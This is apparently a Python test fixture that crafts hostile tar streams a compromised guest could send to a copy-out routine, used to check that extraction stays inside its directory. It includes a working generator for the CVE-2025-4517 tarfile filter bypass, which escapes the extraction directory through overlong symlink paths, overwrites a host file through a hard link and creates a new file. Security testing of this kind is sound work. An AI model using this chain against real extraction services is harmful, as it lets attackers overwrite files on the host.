"""Crafted tar streams: what a hostile guest (root, its own agent) can send to copy-out."""

from __future__ import annotations

import io
import os
import tarfile


def crafted_name(path: str) -> str:
    """File name of the crafted stream the hostile agent double serves for ``path``."""
    return path.strip("/").replace("/", "__") + ".tar"


class Craft:
    """Build a tar stream member by member, any name, type, mode or size."""

    def __init__(self) -> None:
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w", format=tarfile.PAX_FORMAT)  # noqa: SIM115

    def _info(self, name: str, type_: bytes, mode: int) -> tarfile.TarInfo:
        info = tarfile.TarInfo(name)
        info.type = type_
        info.mode = mode
        info.mtime = 1_600_000_000
        return info

    def dir(self, name: str, mode: int = 0o755) -> Craft:
        self.tar.addfile(self._info(name, tarfile.DIRTYPE, mode))
        return self

    def file(self, name: str, data: bytes = b"x", mode: int = 0o644) -> Craft:
        info = self._info(name, tarfile.REGTYPE, mode)
        info.size = len(data)
        self.tar.addfile(info, io.BytesIO(data))
        return self

    def symlink(self, name: str, target: str) -> Craft:
        info = self._info(name, tarfile.SYMTYPE, 0o777)
        info.linkname = target
        self.tar.addfile(info)
        return self

    def hardlink(self, name: str, target: str) -> Craft:
        info = self._info(name, tarfile.LNKTYPE, 0o644)
        info.linkname = target
        self.tar.addfile(info)
        return self

    def node(self, name: str, type_: bytes, mode: int = 0o644) -> Craft:
        info = self._info(name, type_, mode)
        info.devmajor, info.devminor = 1, 3  # /dev/null's numbers
        self.tar.addfile(info)
        return self

    def declared(self, name: str, size: int, data: bytes = b"") -> Craft:
        """A file header that declares ``size`` bytes, followed by only ``data``."""
        info = self._info(name, tarfile.REGTYPE, 0o644)
        info.size = size
        self.tar.fileobj.write(info.tobuf(self.tar.format, self.tar.encoding, self.tar.errors))
        self.tar.fileobj.write(data)
        return self

    def bytes(self) -> bytes:
        self.tar.close()
        return self.buf.getvalue()


def cve_2025_4517(top: str, extract_dir_len: int, ups: int, victim: str) -> bytes:
    """The CVE-2025-4517 chain (cpython's test_realpath_limit_attack), all under ``top``.

    Directories with long names and one-letter symlinks to them, sized so that the path the
    "data" filter's ``realpath`` must expand exceeds PATH_MAX and is left unexpanded; the link
    ``l...l`` climbs back to ``top``; ``escape`` goes ``ups`` more levels up, out of the
    extraction directory. Then a hard link to ``escape/<victim>`` is made and written through
    (overwriting a host file), and ``escape/newfile`` is created.
    ``extract_dir_len``: length of the directory the archive is extracted into.
    """
    steps = "abcdefghijklmnop"
    max_path = os.pathconf("/", "PC_PATH_MAX")
    dest_len = extract_dir_len + 1 + len(top) + 1
    component = "d" * ((max_path - dest_len) // (len(steps) + 1))
    c = Craft().dir(top, 0o755)
    path = ""
    for step in steps:
        c.dir(f"{top}/{path}{component}", 0o777)
        c.symlink(f"{top}/{path}{step}", component)
        path = f"{path}{component}/"
    linkpath = "/".join(steps) + "/" + "l" * 254
    c.symlink(f"{top}/{linkpath}", "/".join([".."] * len(steps)))
    c.symlink(f"{top}/escape", linkpath + "/.." * (1 + ups))
    c.hardlink(f"{top}/flaglink", f"{top}/escape/{victim}")
    c.file(f"{top}/flaglink", b"overwritten by the guest\n")
    c.file(f"{top}/escape/newfile", b"created by the guest\n")
    return c.bytes()
